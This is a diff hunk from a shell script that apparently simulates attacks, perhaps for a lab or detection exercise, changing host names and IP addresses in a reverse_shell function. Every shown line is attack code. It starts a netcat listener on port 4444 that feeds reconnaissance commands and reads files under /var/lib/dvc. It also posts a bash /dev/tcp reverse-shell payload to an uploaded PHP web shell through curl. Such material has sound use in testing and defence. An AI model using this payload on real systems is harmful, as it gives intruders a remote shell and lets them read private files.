@@ -19,11 +19,11 @@ attack_web_shell() {
 }
 
 reverse_shell() {
-  on c2 bash -c '(sleep 4; for words in id "uname -sm" "cat /etc/hostname" "ls -la /var/lib/dvc" "head -c 300 /var/lib/dvc/gop-y.txt" exit
+  on attacker-shell bash -c '(sleep 4; for words in id "uname -sm" "cat /etc/hostname" "ls -la /var/lib/dvc" "head -c 300 /var/lib/dvc/gop-y.txt" exit
     do echo "$words"; sleep 1; done) | timeout 40 nc -n -l -p 4444' &
   local listener=$!
   sleep 1
   on attacker-shell curl -s -m 30 -A "$1" -o /dev/null --data-urlencode \
-    "c=bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'" "$2/tai-len/anh-the.php" || true
+    "c=bash -c 'bash -i >& /dev/tcp/203.0.113.99/4444 0>&1'" "$2/tai-len/anh-the.php" || true
   wait $listener || true
 }
